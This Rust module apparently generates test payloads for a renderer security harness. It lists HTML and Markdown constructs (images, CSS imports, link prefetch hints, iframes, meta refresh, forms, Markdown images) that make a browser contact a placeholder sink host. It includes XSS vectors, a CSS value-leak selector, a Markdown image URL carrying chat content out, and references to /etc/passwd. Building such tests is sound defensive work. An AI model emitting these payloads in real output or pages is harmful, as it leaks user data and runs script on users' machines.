//! What makes a browser ask somebody for something, without any script: pictures, styles, hints, frames, forms.

use super::payload::{Draft, html, text};

pub(super) fn all() -> Vec<Draft> {
    [
        html("picture", PICTURES),
        html("media", MEDIA),
        html("style", STYLES),
        html("hint", hints()),
        html("frame and object", FRAMES),
        html("navigation", NAVIGATION),
        html("form", FORMS),
        text("Markdown image", images()),
    ]
    .concat()
}

const PICTURES: [&str; 12] = [
    "<img src=http://{http}/{n}/picture.png>",
    "<img src=//{http}/{n}/picture.png>",
    "<img src=https://{dns}/picture.png>",
    "<IMG SRC=HTTP://{http}/{n}/PICTURE.PNG>",
    "<img srcset=\"http://{http}/{n}/small.png 1x, http://{http}/{n}/large.png 2x\">",
    "<img srcset=\"http://{http}/{n}/wide.png 100w\" sizes=100vw>",
    "<picture><source srcset=http://{http}/{n}/source.png><img src=x></picture>",
    "<img lowsrc=http://{http}/{n}/low.png dynsrc=http://{http}/{n}/dyn.png src=http://{dns}/x>",
    "<input type=image src=http://{http}/{n}/button.png>",
    "<body background=http://{http}/{n}/ground.png>",
    "<table background=http://{http}/{n}/table.png><td background=http://{http}/{n}/cell.png>x</table>",
    "<img loading=eager decoding=sync referrerpolicy=unsafe-url crossorigin src=http://{http}/{n}/eager.png>",
];

const MEDIA: [&str; 8] = [
    "<video src=http://{http}/{n}/film.mp4 autoplay></video>",
    "<video poster=http://{http}/{n}/poster.png></video>",
    "<video autoplay><source src=http://{http}/{n}/source.mp4></video>",
    "<video><track default src=http://{http}/{n}/track.vtt></video>",
    "<audio src=http://{http}/{n}/sound.mp3 autoplay></audio>",
    "<audio preload=auto src=http://{dns}/sound.mp3></audio>",
    "<bgsound src=http://{http}/{n}/ground.mp3>",
    "<video src=http://{dns}/film.mp4 preload=metadata></video>",
];

const STYLES: [&str; 18] = [
    "<style>@import 'http://{http}/{n}/import.css'</style>",
    "<style>@import url(http://{http}/{n}/import.css);</style>",
    "<style>@import url(//{dns}/import.css)</style>",
    "<style>*{background:url(http://{http}/{n}/ground.png)}</style>",
    "<style>p::before{content:url(http://{http}/{n}/before.png)}</style><p>p</p>",
    "<style>@font-face{font-family:f;src:url(http://{http}/{n}/font.woff)}*{font-family:f}</style>f",
    "<style>li{list-style-image:url(http://{http}/{n}/list.png)}</style><li>l",
    "<style>*{cursor:url(http://{http}/{n}/cursor.cur),auto}</style>",
    "<style>*{background:u\\72l(http://{http}/{n}/escaped.png)}</style>",
    "<style>*{background:image-set('http://{http}/{n}/set.png' 1x)}</style>",
    "<style>input[value^=s]{background:url(http://{http}/{n}/starts-with-s)}</style><input value=secret>",
    "<p style=\"background:url(http://{http}/{n}/inline.png)\">p</p>",
    "<p style=\"background-image:url('//{dns}/inline.png')\">p</p>",
    "<p style=\"mask:url(http://{http}/{n}/mask.svg#m);filter:url(http://{http}/{n}/filter.svg#f)\">p</p>",
    "<p style=\"width:expression({js})\">p</p>",
    "<p style=\"behavior:url(http://{http}/{n}/behaviour.htc);-moz-binding:url(http://{http}/{n}/binding.xml#x)\">p</p>",
    "<link rel=stylesheet href=http://{http}/{n}/sheet.css>",
    "<link rel=\"alternate stylesheet\" href=//{dns}/sheet.css title=x>",
];

/// Every relation that lets a browser fetch, connect or resolve ahead, to the sink and to a name of its own.
fn hints() -> Vec<String> {
    let mut all = Vec::new();
    for relation in [
        "prefetch",
        "preconnect",
        "dns-prefetch",
        "modulepreload",
        "preload as=image",
        "preload as=style",
        "prerender",
        "icon",
        "manifest",
    ] {
        all.push(format!(
            "<link rel={relation} href=http://{{http}}/{{n}}/ahead>"
        ));
        all.push(format!("<link rel={relation} href=//{{dns}}/ahead>"));
    }
    all.push("<meta http-equiv=x-dns-prefetch-control content=on><a href=//{dns}>a</a>".to_owned());
    all.push(
        "<meta http-equiv=Link content=\"<http://{http}/{n}/ahead>; rel=preload; as=image\">"
            .to_owned(),
    );
    all
}

const FRAMES: [&str; 14] = [
    "<iframe src=http://{http}/{n}/frame></iframe>",
    "<iframe src=//{dns}/frame></iframe>",
    "<iframe src=\"javascript:parent.breached={n}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.breached={n}</script>\"></iframe>",
    "<iframe srcdoc=\"<img src=http://{http}/{n}/doc.png>\"></iframe>",
    "<iframe src=\"data:text/html,<script>parent.breached={n}</script><img src=http://{http}/{n}/data>\"></iframe>",
    "<iframe sandbox=\"allow-scripts allow-same-origin\" src=http://{http}/{n}/sandboxed></iframe>",
    "<frameset><frame src=http://{http}/{n}/frame></frameset>",
    "<object data=http://{http}/{n}/object></object>",
    "<object data=\"javascript:{js}\"></object>",
    "<embed src=http://{http}/{n}/embedded>",
    "<embed src=\"javascript:{js}\" type=text/html>",
    "<portal src=http://{http}/{n}/portal></portal>",
    "<applet code=x codebase=http://{http}/{n}/applet></applet>",
];

const NAVIGATION: [&str; 12] = [
    "<meta http-equiv=refresh content=\"0;url=http://{http}/{n}/refreshed\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>{js}</script>\">",
    "<META HTTP-EQUIV='Refresh' CONTENT='0; URL=//{dns}/'>",
    "<meta http-equiv=set-cookie content=\"c={n}\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{js}</script>",
    "<base href=http://{http}/{n}/><img src=relative.png>",
    "<base href=//{dns}/ target=_top><a href=x>a</a>",
    "<a href=http://{http}/{n}/pinged ping=http://{http}/{n}/ping autofocus>touch</a>",
    "<a href=http://{http}/{n}/saved download autofocus>touch</a>",
    "<a href=http://{http}/{n}/opened target=_blank rel=opener>touch</a>",
    "<map name=m><area shape=default href=\"javascript:{js}\"></map><img usemap=#m src=x>",
];

const FORMS: [&str; 8] = [
    "<form action=http://{http}/{n}/form><input name=x value=y><input type=submit autofocus></form>",
    "<form action=\"javascript:{js}\"><button>touch</button></form>",
    "<form><button formaction=\"javascript:{js}\">touch</button></form>",
    "<form><button formaction=http://{http}/{n}/formed>touch</button></form>",
    "<form id=f></form><button form=f formaction=\"javascript:{js}\">touch</button>",
    "<form method=dialog action=http://{http}/{n}/dialog><input type=image src=http://{http}/{n}/image.png formaction=http://{http}/{n}/x></form>",
    "<form><input name=attributes><input name=nodeName><input name=parentNode><button formaction=http://{http}/{n}/x>touch</button></form>",
    "<isindex action=http://{http}/{n}/index prompt=x>",
];

/// Every way in which Markdown writes an image, to every form of host.
fn images() -> Vec<String> {
    const HOSTS: [&str; 14] = [
        "http://{http}/{n}/i.png",
        "//{http}/{n}/i.png",
        "/\\{http}/{n}/i.png",
        "http:\\\\{http}\\{n}\\i.png",
        "HTTP://{http}/{n}/i.png",
        "https://{dns}/i.png",
        "//{dns}/i.png",
        "http://user:secret@{http}/{n}/i.png",
        "http://{http}/{n}/i.png?chat=everything#here",
        "ftp://{dns}/i.png",
        "tauri://localhost/settings.html",
        "asset://localhost/etc/passwd",
        "ipc://localhost/settings_state",
        "file:///etc/hostname",
    ];
    let mut all: Vec<String> = HOSTS
        .iter()
        .map(|host| format!("![a picture]({host})"))
        .collect();
    all.extend(
        [
            "![a](<http://{http}/{n}/i.png> \"t\\\" onerror={js} x=\\\"\")",
            "![a\" onerror=\"{js}](http://{http}/{n}/i.png)",
            "![a][i]\n\n[i]: http://{http}/{n}/i.png 'a title'",
            "![i]\n\n[i]: <http://{http}/{n}/i.png>",
            "[![a](http://{http}/{n}/i.png)](http://{http}/{n}/link)",
            "![![a](http://{http}/{n}/inner.png)](http://{http}/{n}/outer.png)",
            "![a](data:image/svg+xml,<svg/onload={js}>)",
            "![a](data:image/svg+xml;base64,PHN2Zy8+)",
            "![a](javascript:{js})",
            "![a](blob:http://{http}/{n})",
            "![<img src=http://{http}/{n}/alt.png onerror={js}>](x)",
            "| ![a](http://{http}/{n}/cell.png) |\n|---|\n| ![b](//{dns}/cell.png) |",
            "# ![a](http://{http}/{n}/heading.png)",
            "- [x] ![a](http://{http}/{n}/task.png)",
            "A note.[^1]\n\n[^1]: ![a](http://{http}/{n}/note.png)",
            "![a](http://{http}/{n}/i.png){onload={js} .class #id}",
        ]
        .map(str::to_owned),
    );
    all
}
